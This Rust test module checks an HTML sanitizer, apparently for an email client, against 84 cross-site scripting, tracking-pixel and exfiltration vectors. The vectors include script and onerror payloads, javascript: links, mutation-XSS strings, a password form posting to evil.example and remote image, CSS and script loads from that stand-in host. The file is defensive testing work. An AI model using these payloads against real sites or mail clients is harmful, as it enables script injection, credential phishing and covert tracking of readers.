//! What scripts, forms and trackers have tried, and what must still be seen.

use super::*;

/// Ways to run something, to send something, or to tell somebody that a page was read.
const VECTORS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js>",
    "<script\n>alert(1)",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=\"x\"/onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    "<img alt=\"<script>alert(1)</script>\">",
    "<img alt=\"x src=\" src=http://evil.example/p.gif>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"&#106;avascript:alert(1)\">",
    "<img dynsrc=\"http://evil.example/p.gif\">",
    "<img lowsrc=\"http://evil.example/p.gif\">",
    "<img srcset=\"http://evil.example/p.gif 1x\">",
    "<img src=cid:a srcset=http://evil.example/p.gif>",
    "<img src=\"http://evil.example/p.gif\" width=1 height=1>",
    "<img src=\"https://evil.example/p.gif\">",
    "<img src=\"HTTPS://evil.example/p.gif\">",
    "<img src=\"//evil.example/p.gif\">",
    "<img src=\"\\\\evil.example\\p.gif\">",
    "<img src=\"/\\evil.example/p.gif\">",
    "<img src=\" http://evil.example/p.gif\">",
    "<img src=\"ht\ntp://evil.example/p.gif\">",
    "<img src=\"ftp://evil.example/p.gif\">",
    "<img src=\"file:////evil.example/p.gif\">",
    "<img src=\"/p.gif\">",
    "<img src=\"cid:other\">",
    "<img src=\"cid:path\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<image src=http://evil.example/p.gif>",
    "<picture><source srcset=http://evil.example/p.gif><img src=http://evil.example/q.gif></picture>",
    "<input type=image src=http://evil.example/p.gif>",
    "<video src=http://evil.example/v.mp4 poster=http://evil.example/p.gif></video>",
    "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<embed src=http://evil.example/x.swf>",
    "<object data=http://evil.example/x.swf></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<applet code=x codebase=http://evil.example/></applet>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=http://evil.example/></frameset>",
    "<body background=http://evil.example/p.gif onload=alert(1)>",
    "<table background=http://evil.example/p.gif><tr><td background=http://evil.example/p.gif>x",
    "<div style=\"background:url(http://evil.example/p.gif)\">x</div>",
    "<div style=\"background:\\75rl(http://evil.example/p.gif)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/p.gif)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<base href=http://evil.example/>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"cid:a\">x</a>",
    "<a href=\"https://shop.example/\" ping=\"http://evil.example/\" onclick=alert(1)>x</a>",
    "<a href=\"https://shop.example/\" target=_self rel=opener style=x>x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<form action=http://evil.example/><input name=password><button>Log in</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=http://evil.example/>x</button>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=http://evil.example/p.gif /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=http://evil.example/p.gif></template>",
    "<!--[if gte mso 9]><img src=http://evil.example/p.gif><![endif]-->",
    "<bgsound src=http://evil.example/a.wav><marquee onstart=alert(1)>x</marquee>",
    "<p id=cookie class=ours name=x contenteditable tabindex=1 accesskey=x>x</p>",
];

fn pictures() -> BTreeMap<String, String> {
    [
        ("a", "/mail/7/picture/1"),
        ("other", "http://evil.example/p.gif"),
        ("path", "//evil.example/p.gif"),
        ("at@x", "data:image/png;base64,AAAA"),
    ]
    .map(|(name, address)| (name.to_owned(), address.to_owned()))
    .into()
}

/// Every tag of a page as its name and its attributes.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start + 1..];
        let end = end_of_tag(tag).unwrap();
        let (name, attributes) = tag[..end].split_once(' ').unwrap_or((&tag[..end], ""));
        let pieces: Vec<_> = attributes.split('"').collect();
        let pairs = pieces.chunks_exact(2);
        let pairs = pairs.map(|pair| (pair[0].trim().to_owned(), pair[1].to_owned()));
        found.push((name.trim_start_matches('/').to_owned(), pairs.collect()));
        rest = &tag[end + 1..];
    }
    found
}

fn assert_harmless(html: &str, of: &str) {
    for (element, attributes) in tags(html) {
        assert!(
            ELEMENTS.contains(&element.as_str()),
            "{element} in {html} of {of}"
        );
        for (name, value) in attributes {
            let name = name.trim_end_matches('=');
            let good = match (element.as_str(), name) {
                ("img", "src") => is_ours(&value),
                ("a", "href") => is_link(&value),
                ("a", "rel") => value == "noopener noreferrer nofollow",
                ("a", "target") => value == "_blank",
                ("img", "alt") | ("ol", "start") | ("font", "size" | "face") => true,
                ("table", "border" | "cellpadding" | "cellspacing") => true,
                (_, name) => LAYOUT.contains(&name),
            };
            assert!(good, "{name}={value} in {html} of {of}");
        }
    }
}

#[test]
fn nothing_runs_and_nothing_is_fetched() {
    for vector in VECTORS {
        for page in [vector.to_owned(), format!("<p>a{vector}b<b>c</b>")] {
            let safe = safe(&page, &pictures());
            assert_harmless(&safe.html, vector);
            // Made safe once more, it stays as it is: browsers read it as we do.
            assert_harmless(&super::safe(&safe.html, &BTreeMap::new()).html, vector);
        }
    }
}

#[test]
fn pictures_from_elsewhere_are_counted_and_named() {
    for (page, expected, blocked) in [
        (
            "<img src=http://e.example/p.gif>",
            "<span>[picture not loaded]</span>",
            1,
        ),
        (
            "<img src=http://e.example/p.gif alt='Our \"shop\" <b>'>x",
            "<span>[picture not loaded: Our &quot;shop&quot; &lt;b&gt;]</span>x",
            1,
        ),
        ("<img src=cid:a>", "<img src=\"/mail/7/picture/1\">", 0),
        (
            "<img src=CID:at%40x>",
            "<img src=\"data:image/png;base64,AAAA\">",
            0,
        ),
        (
            "<img src=cid:unknown><img src=/x>",
            "<span>[picture not loaded]</span><span>[picture not loaded]</span>",
            2,
        ),
        (
            "<img src=data:image/gif;base64,AAAA>",
            "<img src=\"data:image/gif;base64,AAAA\">",
            0,
        ),
    ] {
        let safe = safe(page, &pictures());
        assert_eq!(
            (safe.html.as_str(), safe.blocked_images),
            (expected, blocked)
        );
    }
}

#[test]
fn what_a_person_reads_stays() {
    for (page, expected) in [
        (
            "<html><head><title>t</title></head><body><h1>Hello</h1></body></html>",
            "<h1>Hello</h1>",
        ),
        (
            "<table width=600><tr><td bgcolor=red>x</table>",
            "<table width=\"600\"><tbody><tr><td bgcolor=\"red\">x</td></tr></tbody></table>",
        ),
        (
            "<a href=mailto:a@b.example>write</a>",
            "<a href=\"mailto:a@b.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">write</a>",
        ),
        ("<form>in a form</form>", "in a form"),
        ("5 < 6 &amp; 7", "5 &lt; 6 &amp; 7"),
        ("", ""),
    ] {
        assert_eq!(safe(page, &pictures()).html, expected);
    }
}

#[test]
fn a_page_without_end_is_shown_as_text() {
    let deep = "<div><b>".repeat(MOST_TAGS);
    let page = format!("{deep}<script>x</script><img src=http://e.example/p>a &lt; b");
    let safe = safe(&page, &pictures());
    assert_eq!(safe.html, "<pre>a &lt; b</pre>");
    assert_eq!(safe.blocked_images, 1);
    let almost = "<div><b>".repeat(MOST_TAGS / 2);
    assert_harmless(&super::safe(&almost, &pictures()).html, "a deep page");
}
